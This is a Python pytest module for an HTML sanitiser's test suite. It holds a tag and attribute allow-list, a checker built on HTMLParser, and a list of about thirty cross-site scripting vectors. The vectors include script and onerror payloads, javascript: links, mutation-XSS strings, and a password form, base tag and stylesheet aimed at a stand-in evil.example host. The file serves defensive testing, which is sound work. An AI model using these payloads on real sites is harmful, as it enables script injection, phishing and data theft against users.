"""Hostile inputs, and an eye of its own for what must never stand in cooked HTML."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

VECTORS = Path(__file__).resolve().parents[3] / "shared" / "data" / "xss_dev.json"

# Written out once more on purpose: a change of the allow-list must be made twice.
_LISTED = (
    "p h2 h3 h4 blockquote ul ol li table thead tbody tr td th pre hr br strong em u s sub sup "
    "code a"
)
TAGS = frozenset(_LISTED.split())
VALUES = {
    "class": r"(align-(center|end)|indent-[1-4])( (align-(center|end)|indent-[1-4]))*",
    "dir": "rtl",
    "start": "[0-9]{1,4}",
    "colspan": "[0-9]{1,3}",
    "rowspan": "[0-9]{1,3}",
    "href": r"(?i:https?://|mailto:)\S+|/(people|posts)/[1-9][0-9]{0,9}",
    "rel": "noopener nofollow ugc",
}

# What the collections of others do not have: each aims at one of our own walls.
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a><a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a><a href=' javascript:alert(1)'>x</a>",
    "<a href='javascript:123'>x</a><a href='//evil.example'>x</a><a href='/\\evil.example'>x</a>",
    "<a href='https:evil'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://good.example' onclick=alert(1) id=x name=y style='position:fixed'>x</a>",
    "<p id=csrf_token class='button button--primary modal' style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>",
    "<video src=//evil.example poster=//evil.example></video><audio src=//evil.example>",
    "<input onfocus=alert(1) autofocus><details open ontoggle=alert(1)>x</details>",
    "<p title='</p><script>alert(1)</script>'>x</p><p class=\"a' onclick='alert(1)\">x</p>",
    "<textarea><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>--><!--!><img src=x onerror=alert(1)>",
    "<td background=//evil.example><table background='javascript:alert(1)'>",
    "<p dir='x' onclick=alert(1) dir=rtl>x</p><ol start='1 onclick=alert(1)'><li>x</ol>",
    "<![CDATA[<script>alert(1)</script>]]><?xml <script>alert(1)</script>?>",
    "</textarea></title><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "https://good.example/\"onmouseover=alert(1)// https://good.example/'><script>alert(1)</script>",
    "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template><select><style></select><img src onerror=alert(1)>",
    "<p style=\"background:url('//evil.example')\">x</p>",
]


def vectors() -> list[str]:
    """The developers' collection; skipped by name where it is not beside the project."""
    if not VECTORS.exists():
        pytest.skip(f"{VECTORS.name} is missing beside the project")
    return [vector["payload"] for vector in json.loads(VECTORS.read_text("utf-8"))["vectors"]]


class Eye(HTMLParser):
    """Lists every tag and attribute that is not on the list above."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.seen.append(tag)
        for name, value in attrs:
            if name not in VALUES or not re.fullmatch(VALUES[name], value or ""):
                self.seen.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.seen.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.seen.append(f"<!{decl}")

    unknown_decl = handle_decl
    handle_pi = handle_decl


def dangers(html: str) -> list[str]:
    eye = Eye()
    eye.feed(html)
    eye.close()
    return eye.seen
